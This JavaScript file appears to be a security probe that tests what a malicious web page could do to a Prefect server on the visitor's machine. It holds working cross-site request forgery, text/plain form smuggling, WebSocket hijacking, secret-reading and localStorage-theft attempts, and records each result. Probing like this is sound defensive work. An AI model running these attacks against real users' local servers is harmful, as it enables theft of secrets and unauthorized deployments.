// What a page could try against a server on the visitor's own machine. Each attempt ends as "refused" (the browser or
// the server said no), "unseen" (sent, but the page learns nothing) or with what the page got hold of.
const wait = (object, name, seconds = 20) => new Promise((done, fail) => {
  object.addEventListener(name, done, {once: true});
  object.addEventListener('error', () => fail(new Error('error')), {once: true});
  setTimeout(() => fail(new Error('late')), seconds * 1000);
});

async function framed(ui) {
  const frame = document.createElement('iframe');
  frame.src = ui + '/dashboard';
  document.body.append(frame);
  await wait(frame, 'load');
  return frame;
}

async function attack(ui) {
  const api = ui + '/api', got = {};
  const attempt = async (how, what) => {
    try { got[how] = await what() } catch (error) { got[how] = 'refused' }
  };
  const bodies = {
    '/variables/': {name: 'attack', value: 'x'},
    '/flows/': {name: 'attack'},
    '/deployments/': {name: 'attack', flow_id: crypto.randomUUID?.() ?? '0'.repeat(32)},
    '/block_documents/': {name: 'attack', data: {}},
    '/work_pools/': {name: 'attack', type: 'process'},
    '/events': [{event: 'attack', occurred: new Date().toISOString(), id: 'a'.repeat(32), resource: {'prefect.resource.id': 'x'}}],
  };
  const readable = {
    '/health': null, '/ui-settings': null, '/admin/settings': null,
    '/variables/filter': {}, '/block_documents/filter': {include_secrets: true}, '/logs/filter': {},
  };

  for (const credentials of ['omit', 'include']) {
    for (const [path, body] of Object.entries({...readable, ...bodies})) {
      const json = body && {method: 'POST', body: JSON.stringify(body)};
      await attempt(`fetch ${path} ${credentials}`, async () =>
        (await fetch(api + path, {...json, credentials, headers: body ? {'Content-Type': 'application/json'} : {}})).text());
      await attempt(`simple ${path} ${credentials}`, async () =>
        (await fetch(api + path, {...json, credentials})).text());
      await attempt(`no-cors ${path} ${credentials}`, async () => {
        const reply = await fetch(api + path, {...json, credentials, mode: 'no-cors'});
        return reply.type === 'opaque' && !(await reply.text()) ? 'unseen' : 'read';
      });
    }
  }

  for (const [path, body] of Object.entries(bodies)) {
    await attempt(`form ${path}`, async () => {
      const frame = document.createElement('iframe'), form = document.createElement('form');
      const field = document.createElement('input'), [start, end] = JSON.stringify(body).split(/(?<=")attack/);
      frame.name = 'target' + path;
      Object.assign(form, {action: api + path, method: 'post', enctype: 'text/plain', target: frame.name});
      Object.assign(field, {name: start + 'attack', value: end});
      form.append(field);
      document.body.append(frame, form);
      const loaded = wait(frame, 'load');
      form.submit();
      await loaded;
      return frame.contentDocument?.body?.innerText || 'unseen';
    });
  }

  for (const path of ['/events/in', '/events/out', '/logs/out']) {
    for (const protocols of [[], ['prefect']]) {
      for (const token of [null, '', 'zakaz:']) {
        await attempt(`socket ${path} ${protocols} ${token}`, async () => {
          const socket = new WebSocket(api.replace('http', 'ws') + path, protocols);
          const messages = [];
          socket.addEventListener('message', event => messages.push(event.data));
          const closed = new Promise(done => socket.addEventListener('close', done));
          await wait(socket, 'open');
          socket.send(JSON.stringify({type: 'auth', token}));
          for (const [name, event] of Object.entries(bodies['/events'])) socket.send(JSON.stringify(event));
          socket.send(JSON.stringify({type: 'filter', filter: {}}));
          await closed;
          return messages.join() || 'refused';
        });
      }
    }
  }

  await attempt('frame', async () => {
    const frame = await framed(ui);
    return frame.contentWindow.localStorage.getItem('prefect-password') ?? frame.contentDocument.body.innerText;
  });
  await attempt('window', async () => {
    const opened = window.open(ui + '/dashboard');
    if (!opened) return 'not opened';
    try {
      // Until it has left the empty page that it begins with, its address can be read, and that alone.
      while (opened.location.href === 'about:blank') await new Promise(done => setTimeout(done, 50));
      return opened.localStorage.getItem('prefect-password') ?? 'read';
    } finally { opened.close() }
  });
  for (const [name, source] of [['script', '/ui-settings'], ['script', '/variables/filter'], ['img', '/ui-settings']]) {
    await attempt(`${name} ${source}`, async () => {
      const known = Object.keys(window), tag = document.createElement(name);
      tag.src = api + source;
      document.body.append(tag);
      await wait(tag, 'load');
      return Object.keys(window).filter(one => !known.includes(one)).join() || 'unseen';
    });
  }
  return got;
}
